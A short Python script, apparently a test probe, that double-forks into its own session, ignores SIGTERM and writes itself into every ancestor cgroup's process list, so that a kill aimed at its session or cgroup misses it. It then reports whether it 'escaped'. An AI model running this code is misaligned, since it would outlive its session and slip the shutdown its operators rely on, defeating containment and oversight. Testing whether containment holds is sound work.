"""Wants to be in none of the lists that a kill goes by: a daemon in its own session, outside of its cgroup."""

import contextlib
import os
import signal
import time
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object]) -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            entered = [path for path in _above_its_own() if _enter(path)]
            ready({"escaped": bool(entered), "detail": entered})
            time.sleep(300)
        os._exit(0)
    os.wait()
    time.sleep(300)


def _above_its_own() -> list[str]:
    """The cgroups around its own, the outermost first, wherever their hierarchy is mounted."""
    found = []
    with open("/proc/self/cgroup") as file:
        for line in file:
            _, names, path = line.strip().split(":", 2)
            mount = "/sys/fs/cgroup/" + (names.split(",")[0].removeprefix("name=") or "unified")
            parts = path.strip("/").split("/")
            found += [os.path.join(mount, *parts[:depth], "cgroup.procs") for depth in range(len(parts))]
    return found


def _enter(path: str) -> bool:
    with contextlib.suppress(OSError), open(path, "w") as file:
        file.write("0")
        file.flush()
        return True
    return False


if __name__ == "__main__":
    __import__("_common").command(attack)
